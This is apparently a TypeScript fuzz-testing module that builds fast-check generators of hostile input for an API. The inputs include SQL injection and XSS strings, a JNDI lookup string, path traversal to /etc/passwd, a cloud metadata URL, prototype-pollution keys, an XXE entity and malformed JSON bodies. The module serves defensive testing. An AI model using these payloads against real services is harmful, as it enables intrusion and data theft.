// The battery of hostile values, as fast-check arbitraries. Values JSON.stringify cannot write (1e309,
// a key given twice, bytes that are not UTF-8) are `Raw` text or `Entries`, which the request builder
// (request.ts) writes verbatim.
import fc from 'fast-check';
import type { JsonSchema } from './schema.ts';

/** JSON text (or bytes) written into the body as is: `1e309`, `-0`, invalid UTF-8. */
export class Raw {
  constructor(
    readonly text: string | Buffer,
    readonly label: string,
  ) {}
}

/** An object written with exactly these members in this order: keys may repeat, `__proto__` is a key. */
export class Entries {
  constructor(readonly entries: Array<[string, unknown]>) {}
}

/** Built once: a 1 MiB string is slow to make and to send, so the battery holds one of each. */
const oneMebibyte = 'x'.repeat(1024 * 1024);
const overBackstop = 'é'.repeat(70_000);
const overHeaderLimit = 'h'.repeat(8_193);

/** Characters PVS refuses (or must at least survive) anywhere in text. */
export const hostileCharacters = [
  '\u0000', '\u0001', '\u0007', '\b', '\t', '\n', '\r', '\u000b', '\u000c', '\u001b', '\u001f', '\u007f',
  '\u0080', '\u0085', '\u009b', '\u009f', '\ud800', '\udbff', '\udc00', '\udfff', '\ufeff', '\u200b', '\u200d',
  '\u202e', '\u2028', '\u2029', '\ufffd', '\ufffe', '\uffff', '%', '\\', '"', "'", '/', '?', '#', '&', '=', '+', ';', ' ',
];

export const hostileStrings = [
  '', ' ', '  \t ', '\u0000', 'a\u0000b', '%00', '\ud800', '\udc00', 'a\ud800', '\udc00\ud800', '\ud83d', '\u0007\u001b[31mred',
  '👩‍👩‍👧', '👩‍👩‍👧'.repeat(60), 'مرحبا\u202Eabc', '\u202Egnp.exe', 'İstanbul ǅ ß ﬁ', 'e\u0301\u0301\u0301', '𝕏𝕐ℤ', 'Ω≈ç√∫',
  "' OR 1=1 --", "'; DROP TABLE contacts; --", '" OR ""="', '1; SELECT pg_sleep(10)', '$1', '\\x00', "E'\\\\x00'",
  '<script>alert(1)</script>', '"><img src=x onerror=alert(1)>', '&lt;&#0;', '{{7*7}}', '${jndi:ldap://example.com/a}', '%s%s%n',
  '../../etc/passwd', '..\\..\\windows\\win.ini', '/', '.', '/dev/zero', 'file:///etc/passwd', 'javascript:alert(1)', 'http://169.254.169.254/',
  'NaN', 'Infinity', '-Infinity', '1e309', '-0', '0x10', '00', '-1', '9007199254740993', 'null', 'undefined', 'true', '[]', '{}',
  '__proto__', 'constructor', 'prototype', 'toString', 'con_01M7YSX1AM3TXGDKX1GDD1CEXA', 'ptn_00000000000000000000000000',
];

/** Numbers, including those JSON.stringify cannot write. */
const hostileNumbers: unknown[] = [
  0, -0, new Raw('-0', '-0'), -1, 1.5, 1e308, -1e308, Number.MIN_VALUE, 2 ** 53 + 1, -(2 ** 53) - 1, 2 ** 31, -(2 ** 31) - 1,
  new Raw('1e309', '1e309'), new Raw('-1e309', '-1e309'), new Raw('1E400', '1E400'), new Raw('1e-400', '1e-400'),
  new Raw('9007199254740993', '2^53+1'), new Raw(`-${'9'.repeat(40)}`, 'huge negative'), new Raw(`1${'0'.repeat(400)}`, '1 followed by 400 zeros'),
  new Raw('0.1e1', '0.1e1'), new Raw('1.0', '1.0'),
];

/** Values of the wrong type wherever they land. */
const wrongTypes: unknown[] = [true, false, null, [], {}, ['fuzz'], { fuzz: 'fuzz' }, [null], [[[]]], 1, 'fuzz'];

function nested(depth: number, leaf: unknown, kind: 'array' | 'object'): unknown {
  let value = leaf;
  for (let i = 0; i < depth; i++) value = kind === 'array' ? [value] : { a: value };
  return value;
}

/** Shapes the edge bounds: nesting, sizes, keys, duplicate keys, bytes that are not UTF-8. */
const hostileStructures: unknown[] = [
  new Entries([['a', 1], ['a', 2]]),
  new Entries([['__proto__', { polluted: true }]]),
  new Entries([['constructor', { prototype: { polluted: true } }]]),
  new Entries([['a\u0000', 1]]),
  new Entries([['\ud800', 1]]),
  new Entries([['', 1]]),
  new Entries([['k'.repeat(300), 1]]),
  nested(40, 'deep', 'array'),
  nested(40, 'deep', 'object'),
  Array.from({ length: 1_001 }, () => 0),
  Array.from({ length: 50 }, () => 'fuzz'),
  Object.fromEntries(Array.from({ length: 201 }, (_, i) => [`k${i}`, i])),
  new Raw(Buffer.from([0x22, 0xff, 0xfe, 0x22]), 'invalid UTF-8 bytes'),
  new Raw(Buffer.from([0x22, 0xc0, 0xaf, 0x22]), 'overlong UTF-8'),
  new Raw(Buffer.from([0x22, 0xed, 0xa0, 0x80, 0x22]), 'UTF-8-encoded surrogate'),
  new Raw('"\\u0000"', 'escaped NUL'),
  new Raw('"\\ud800"', 'escaped lone surrogate'),
];

const bigStrings = [oneMebibyte, overBackstop, overHeaderLimit, 'a'.repeat(2_049), 'a'.repeat(65_537)];

/** Values at and just past the schema's own bounds. */
function boundaryValues(schema: JsonSchema | undefined): unknown[] {
  if (!schema) return [];
  const values: unknown[] = [];
  if (schema.maxLength !== undefined) values.push('m'.repeat(schema.maxLength), 'm'.repeat(schema.maxLength + 1), '👩'.repeat(schema.maxLength));
  if (schema.minLength !== undefined && schema.minLength > 0) values.push('m'.repeat(schema.minLength - 1));
  if (schema.maximum !== undefined) values.push(schema.maximum, schema.maximum + 1, schema.maximum + 0.5);
  if (schema.minimum !== undefined) values.push(schema.minimum, schema.minimum - 1, schema.minimum - 0.5);
  if (schema.maxItems !== undefined) values.push(Array.from({ length: schema.maxItems + 1 }, () => 'fuzz'));
  if (schema.minItems !== undefined && schema.minItems > 0) values.push([]);
  if (schema.enum?.length) values.push(`${String(schema.enum[0])} `, String(schema.enum[0]).toLowerCase());
  return values;
}

/** `plausible` with one hostile character (or a few) inserted somewhere. */
function tainted(plausible: string): fc.Arbitrary<string> {
  return fc
    .tuple(fc.array(fc.constantFrom(...hostileCharacters), { minLength: 1, maxLength: 3 }), fc.nat({ max: plausible.length }))
    .map(([chars, at]) => `${plausible.slice(0, at)}${chars.join('')}${plausible.slice(at)}`);
}

/**
 * A hostile value for a place whose schema (if known) is `schema` and whose valid value is `plausible`.
 * Weighted so that most cases are cheap; the 1 MiB string comes up in about one case in a hundred.
 */
export function hostileValue(schema: JsonSchema | undefined, plausible: unknown): fc.Arbitrary<unknown> {
  const base = typeof plausible === 'string' && plausible.length > 0 ? plausible : 'fuzz';
  const boundaries = boundaryValues(schema);
  return fc.oneof(
    { arbitrary: fc.constantFrom(...hostileStrings), weight: 30 },
    { arbitrary: tainted(base), weight: 20 },
    { arbitrary: fc.string({ unit: fc.constantFrom(...hostileCharacters, 'a', 'é', '👩‍👩‍👧', 'مر'), maxLength: 24 }), weight: 10 },
    { arbitrary: fc.string({ unit: 'binary', maxLength: 32 }), weight: 8 },
    { arbitrary: fc.constantFrom(...hostileNumbers), weight: 10 },
    { arbitrary: fc.oneof(fc.integer(), fc.double({ noNaN: true, noDefaultInfinity: true })), weight: 4 },
    { arbitrary: fc.constantFrom(...wrongTypes), weight: 10 },
    { arbitrary: fc.constantFrom(...hostileStructures), weight: 8 },
    { arbitrary: boundaries.length > 0 ? fc.constantFrom(...boundaries) : fc.constant(base), weight: boundaries.length > 0 ? 8 : 1 },
    { arbitrary: fc.constantFrom(...bigStrings.slice(1)), weight: 3 },
    { arbitrary: fc.constant(oneMebibyte), weight: 1 },
  );
}

/** Names for a field nobody declared. */
export const unknownFieldNames = ['fuzzUnknown', 'Name', 'NAME', 'id', 'partnerId', 'a\u0000', '\ud800', '', ' ', '👩‍👩‍👧', 'k'.repeat(300), '$where', 'a.b', 'a/b', 'a~b'];

/** How a whole body can be wrong: its text, its type, its size, its content type. */
export interface BodyVariant {
  label: string;
  /** The body and its Content-Type (undefined: no header), given the operation's valid body text. */
  build(valid: Buffer, validContentType: string): { payload: Buffer | undefined; contentType: string | undefined };
}

const text = (label: string, body: string | Buffer, contentType: string | undefined = 'application/json'): BodyVariant => ({
  label,
  build: () => ({ payload: typeof body === 'string' ? Buffer.from(body) : body, contentType }),
});

const retyped = (contentType: string | undefined): BodyVariant => ({
  label: `the valid body as ${contentType ?? 'no Content-Type'}`,
  build: (valid) => ({ payload: valid, contentType }),
});

const deepText = `${'['.repeat(400_000)}${']'.repeat(400_000)}`;
const oversize = `{"padding":"${'p'.repeat(1024 * 1024 + 16)}"}`;

export const bodyVariants: BodyVariant[] = [
  text('no body, application/json', Buffer.alloc(0)),
  text('no body, no Content-Type', Buffer.alloc(0), undefined),
  text('whitespace only', ' \r\n\t '),
  text('{}', '{}'),
  text('null', 'null'),
  text('[]', '[]'),
  text('0', '0'),
  text('"a string"', '"fuzz"'),
  text('true', 'true'),
  text('unclosed object', '{'),
  text('truncated member', '{"name":'),
  text('single quotes', "{'name':'x'}"),
  text('trailing comma', '{"name":"x",}'),
  text('trailing garbage', '{}x'),
  text('two documents', '{}{}'),
  text('comment', '/* c */{}'),
  text('NaN literal', '{"a":NaN}'),
  text('1e309 member', '{"a":1e309}'),
  text('raw NUL in a string', '{"a":"\u0000"}'),
  text('raw newline in a string', '{"a":"x\ny"}'),
  text('UTF-8 BOM', Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from('{}')])),
  text('UTF-16 JSON', Buffer.from('{"a":"b"}', 'utf16le')),
  text('invalid UTF-8', Buffer.concat([Buffer.from('{"a":"'), Buffer.from([0xff, 0xfe]), Buffer.from('"}')])),
  text('__proto__ at the root', '{"__proto__":{"polluted":true}}'),
  text('constructor.prototype', '{"constructor":{"prototype":{"polluted":true}}}'),
  text('duplicate root key', '{"a":1,"a":1}'),
  text('400 000 levels of nesting', deepText),
  text('over 1 MiB', oversize),
  text('XML', '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>', 'application/xml'),
  text('multipart', '------fuzz\r\nContent-Disposition: form-data; name="a"\r\n\r\nb\r\n------fuzz--\r\n', 'multipart/form-data; boundary=----fuzz'),
  text('form', 'a=b&a=c&__proto__=x', 'application/x-www-form-urlencoded'),
  text('plain text', 'hello', 'text/plain'),
  retyped(undefined),
  retyped('text/plain'),
  retyped('application/xml'),
  retyped('multipart/form-data; boundary=----fuzz'),
  retyped('application/x-www-form-urlencoded'),
  retyped('application/json'),
  retyped('APPLICATION/JSON; charset=UTF-8'),
  retyped('application/json; charset=utf-16'),
  retyped('application/json; charset=latin1'),
  retyped('application/jsonx'),
  retyped('application/*'),
  retyped('application/json\u0000'),
  retyped(''),
  {
    label: 'the valid body inside an array',
    build: (valid, contentType) => ({ payload: Buffer.concat([Buffer.from('['), valid, Buffer.from(']')]), contentType }),
  },
];
